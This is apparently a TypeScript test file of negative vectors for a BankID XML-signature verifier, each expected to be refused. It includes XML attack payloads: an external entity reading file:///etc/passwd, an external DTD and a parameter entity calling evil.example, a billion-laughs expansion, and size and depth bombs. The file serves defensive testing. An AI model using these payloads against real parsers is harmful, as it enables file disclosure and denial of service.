import { verdicts } from '../vectors/row.ts';
import type { Recipe } from '../vectors/vector.ts';
import { changing, type Attack } from './attack.ts';

type Change = (xml: string) => string;

const refused = (title: string, recipe: Recipe): Attack => ({
  title,
  recipe,
  verdict: verdicts.FORMAT,
  check: 'structure',
});
const document = (title: string, change: Change): Attack => refused(title, { document: changing(change) });
const signed = (title: string, change: Change): Attack =>
  refused(`${title}, signed so`, { signedData: changing(change) });
const latin1 =
  (from: string, to: readonly number[]) =>
  (xml: string): Uint8Array => {
    const bytes = Buffer.from(xml);
    const at = bytes.indexOf(from);
    if (at < 0) throw new Error('the attack changed nothing');
    return Buffer.concat([bytes.subarray(0, at), Buffer.from(to), bytes.subarray(at + Buffer.byteLength(from))]);
  };

/** What other readers drop, merge or expand, in the values that matter. */
const insertions: readonly (readonly [string, string])[] = [
  ['a comment', '<!---->'],
  ['a processing instruction', '<?p x?>'],
  ['CDATA', '<![CDATA[]]>'],
  ['a predefined entity', '&amp;'],
  ['a character reference', '&#65;'],
  ['a hexadecimal character reference', '&#x41;'],
  ['an unknown entity', '&e;'],
  ['an element', '<b></b>'],
  ['white space', ' '],
  ['a line feed', '\n'],
  ['a carriage return', '\r'],
  ['a zero width space', '\u200b'],
  ['a byte order mark', '\ufeff'],
  ['NUL', '\0'],
  ['U+FFFE', '\ufffe'],
  ['a stray bracket', ']]>'],
];
const values: readonly (readonly [string, RegExp, 'signedData' | 'keyInfo' | 'signedInfo'])[] = [
  ['usrVisibleData', /(<usrVisibleData[^>]*>.{8})/, 'signedData'],
  ['srvInfo/name', /(<name>.{8})/, 'signedData'],
  ['funcId', /(<funcId>Sign)/, 'signedData'],
  ['X509Certificate', /(<X509Certificate>.{8})/, 'keyInfo'],
  ['DigestValue', /(<DigestValue>.{8})/, 'signedInfo'],
];

const encodings: readonly (readonly [string, (xml: string) => Uint8Array])[] = [
  ['a byte order mark', (xml) => Buffer.from(`\ufeff${xml}`)],
  ['UTF-16LE', (xml) => Buffer.from(xml, 'utf16le')],
  ['UTF-16LE with its byte order mark', (xml) => Buffer.from(`\ufeff${xml}`, 'utf16le')],
  ['UTF-16BE', (xml) => Buffer.from(`\ufeff${xml}`, 'utf16le').swap16()],
  ['UTF-7', (xml) => Buffer.from(xml.replace('<Object>', '+ADw-Object+AD4-'))],
  ['Latin-1', latin1('<funcId>Signing', Buffer.from('<funcId>å', 'latin1') as unknown as number[])],
  ['overlong UTF-8 of a bracket', latin1('<Object>', [0xc0, 0xbc, ...Buffer.from('Object>')])],
  ['overlong UTF-8 in three octets', latin1('Signing', [0xe0, 0x80, 0x93, ...Buffer.from('igning')])],
  ['a lone high surrogate', latin1('Signing', [0xed, 0xa0, 0x80])],
  ['a lone low surrogate', latin1('Signing', [0xed, 0xb0, 0x80])],
  ['a character beyond Unicode', latin1('Signing', [0xf4, 0x90, 0x80, 0x80])],
  ['UTF-8 cut in the middle', (xml) => Buffer.concat([Buffer.from(xml), Buffer.from([0xc3])])],
  ['NUL after the document', (xml) => Buffer.from(`${xml}\0`)],
];

const declarations: readonly (readonly [string, string])[] = [
  ['no declaration', ''],
  ['XML 1.1', '<?xml version="1.1" encoding="UTF-8" standalone="no"?>'],
  ['another encoding', '<?xml version="1.0" encoding="ISO-8859-1" standalone="no"?>'],
  ['no encoding', '<?xml version="1.0"?>'],
  ['a declaration twice', '<?xml version="1.0" encoding="UTF-8"?><?xml version="1.0" encoding="UTF-8"?>'],
  ['white space before the declaration', ' <?xml version="1.0" encoding="UTF-8" standalone="no"?>'],
  ['a line feed after the declaration', '<?xml version="1.0" encoding="UTF-8" standalone="no"?>\n'],
  ['an empty DOCTYPE', '<?xml version="1.0" encoding="UTF-8" standalone="no"?><!DOCTYPE Signature>'],
  [
    'a DOCTYPE that makes Ids',
    '<?xml version="1.0" encoding="UTF-8" standalone="no"?><!DOCTYPE Signature [<!ATTLIST Object Id ID "bidSignedData">]>',
  ],
  [
    'an external DTD',
    '<?xml version="1.0" encoding="UTF-8" standalone="no"?><!DOCTYPE Signature SYSTEM "http://evil.example/x.dtd">',
  ],
  [
    'an external entity',
    '<?xml version="1.0" encoding="UTF-8" standalone="no"?><!DOCTYPE Signature [<!ENTITY e SYSTEM "file:///etc/passwd">]>',
  ],
  [
    'a parameter entity',
    '<?xml version="1.0" encoding="UTF-8" standalone="no"?><!DOCTYPE Signature [<!ENTITY % e SYSTEM "http://evil.example/"> %e;]>',
  ],
  [
    'entities that expand a billion times',
    `<?xml version="1.0" encoding="UTF-8" standalone="no"?><!DOCTYPE Signature [<!ENTITY a0 "lol">${Array.from({ length: 9 }, (_, i) => `<!ENTITY a${i + 1} "${`&a${i};`.repeat(10)}">`).join('')}]>`,
  ],
  ['a style sheet', '<?xml version="1.0" encoding="UTF-8" standalone="no"?><?xml-stylesheet href="x"?>'],
];

const BIDS = 'http://www.bankid.com/signature/v1.0.0/types';
const namespaces: readonly Attack[] = [
  document('a prefix for the whole signature', (xml) =>
    xml
      .replace('<Object>', '<ds:Object xmlns:ds="http://www.w3.org/2000/09/xmldsig#">')
      .replace('</Object>', '</ds:Object>'),
  ),
  document('an unused prefix', (xml) => xml.replace('<Object>', '<Object xmlns:a="urn:a">')),
  document('the prefix xml bound anew', (xml) => xml.replace('<Object>', '<Object xmlns:xml="urn:a">')),
  document('Object in another namespace', (xml) => xml.replace('<Object>', '<Object xmlns="urn:a">')),
  document('Object in no namespace', (xml) => xml.replace('<Object>', '<Object xmlns="">')),
  document("SignatureValue in BankID's namespace", (xml) =>
    xml.replace('<SignatureValue>', `<SignatureValue xmlns="${BIDS}">`),
  ),
  signed('srvInfo in another namespace', (xml) => xml.replace('<srvInfo>', '<srvInfo xmlns="urn:a">')),
  signed('a namespace declared once more', (xml) => xml.replace('<srvInfo>', `<srvInfo xmlns="${BIDS}">`)),
  signed('xml:lang', (xml) => xml.replace('<srvInfo>', '<srvInfo xml:lang="sv">')),
  signed('xml:base', (xml) => xml.replace('<srvInfo>', '<srvInfo xml:base="http://evil.example/">')),
  signed('a namespace on an element of env', (xml) => xml.replace('<ai>', '<ai xmlns="urn:a">')),
  document('an element name in another case', (xml) =>
    xml.replace('<Object>', '<object>').replace('</Object>', '</object>'),
  ),
];

const texts: readonly (readonly [string, (base64: string) => string])[] = [
  ['line breaks', (text) => text.replace(/.{76}/g, '$&\n')],
  ['a line feed at the end', (text) => `${text}\n`],
  ['a space in front', (text) => ` ${text}`],
  ['no padding', (text) => `${text.replace(/=+$/, '')}====`],
  ['padding inside', (text) => `${text.slice(0, 400)}=${text.slice(400)}`],
  ['the URL alphabet', (text) => text.replaceAll('+', '-').replaceAll('/', '_')],
  ['a second signature after it', (text) => text + text],
  ['a letter beyond ASCII', (text) => `${text.slice(0, -4)}ÅÄÖ=`],
  ['base64 of base64', (text) => Buffer.from(text).toString('base64')],
  ['its last letter with stray bits', (text) => (text.endsWith('=') ? text.replace(/.(=+)$/, '/$1') : `${text}AB==`)],
  ['nothing', () => ''],
];

const DECLARED = '<?xml version="1.0" encoding="UTF-8" standalone="no"?>';
const LIMIT = 399_000;
/** Too large or too deep; refused by size, depth or count. */
const oversized: readonly (readonly [string, (xml: string) => Uint8Array])[] = [
  ['a document of 50 MB', () => Buffer.alloc(50_000_000, 0x61)],
  ['a document of 50 MB that begins well', (xml) => Buffer.concat([Buffer.from(xml), Buffer.alloc(50_000_000, 0x20)])],
  ['depth 100 000', () => Buffer.from(DECLARED + '<a>'.repeat(100_000) + '</a>'.repeat(100_000))],
  ['depth 17', (xml) => Buffer.from(xml.replace('<ai>', `<ai>${'<a>'.repeat(11)}${'</a>'.repeat(11)}`))],
  [
    '100 000 attributes',
    () => Buffer.from(`${DECLARED}<a${Array.from({ length: 100_000 }, (_, i) => ` a${i}=""`).join('')}></a>`),
  ],
  ['as many attributes as fit', () => Buffer.from(`${DECLARED}<a${' a=""'.repeat(LIMIT / 5)}></a>`)],
  ['an attribute of 1 MB', () => Buffer.from(`${DECLARED}<a b="${'x'.repeat(1_000_000)}"></a>`)],
  ['an attribute as long as fits', () => Buffer.from(`${DECLARED}<a b="${'x'.repeat(LIMIT)}"></a>`)],
  ['a name as long as fits', () => Buffer.from(`${DECLARED}<${'a'.repeat(LIMIT)}`)],
  ['white space as long as fits', () => Buffer.from(`${DECLARED}<a${' '.repeat(LIMIT)}`)],
  ['attributes that never end', () => Buffer.from(`${DECLARED}<a b="${'x '.repeat(LIMIT / 2)}`)],
  ['quotes that never pair', () => Buffer.from(`${DECLARED}<a${' a="'.repeat(LIMIT / 4)}`)],
  ['elements as many as fit', (xml) => Buffer.from(xml.replace('<ai>', `<ai>${'<a/>'.repeat(90_000)}`))],
  ['end tags only', () => Buffer.from(DECLARED + '</a>'.repeat(LIMIT / 4))],
  ['brackets only', () => Buffer.from(DECLARED + '<'.repeat(LIMIT))],
];

/** B: what a parser could read otherwise than it was signed, or spend its life on. */
export const parsing: readonly Attack[] = [
  ...values.flatMap(([where, at, part]) =>
    insertions.map(([what, text]) =>
      refused(`${what} inside ${where}, signed so`, { [part]: changing((xml) => xml.replace(at, `$1${text}`)) }),
    ),
  ),
  document('a comment inside SignatureValue', (xml) => xml.replace('<SignatureValue>', '$&<!---->')),
  document('white space inside SignatureValue', (xml) => xml.replace('<SignatureValue>', '$& ')),
  document('SignatureValue without its padding', (xml) => xml.replace('==</SignatureValue>', '</SignatureValue>')),
  signed('half of the text in a processing instruction', (xml) =>
    xml.replace(/(<usrVisibleData[^>]*>)(.{40})/, '$1<?p $2?>'),
  ),
  signed('half of the text in a comment', (xml) => xml.replace(/(<usrVisibleData[^>]*>)(.{40})/, '$1<!--$2-->')),
  signed('visible data with stray bits', (xml) => xml.replace(/(<usrVisibleData[^>]*>)[^<]*/, '$1YR==')),
  ...encodings.map(([title, encode]) => refused(title, { encode })),
  ...declarations.map(([title, declaration]) => document(title, (xml) => xml.replace(/^<\?xml[^>]*>/, declaration))),
  document('a comment after the signature', (xml) => `${xml}<!-- -->`),
  document('a line feed after the signature', (xml) => `${xml}\n`),
  document('text after the signature', (xml) => `${xml}x`),
  document('a second root', (xml) => `${xml}<a></a>`),
  document('the last bracket missing', (xml) => xml.slice(0, -1)),
  document('the end tag of another element', (xml) => xml.replace('</Object>', '</object>')),
  document('an attribute twice', (xml) => xml.replace('visible="wysiwys"', '$& $&')),
  document('an attribute without quotes', (xml) => xml.replace('"wysiwys"', 'wysiwys')),
  document('an attribute without value', (xml) => xml.replace('="wysiwys"', '')),
  document('a tab in an attribute', (xml) => xml.replace('"wysiwys"', '"wysiwys\t"')),
  document('an entity in an attribute', (xml) => xml.replace('"wysiwys"', '"wysi&#119;ys"')),
  ...namespaces,
  ...texts.map(([title, text]) => refused(`base64 of the document with ${title}`, { text: changing(text) })),
  ...oversized.map(([title, encode]) => refused(title, { encode })),
];
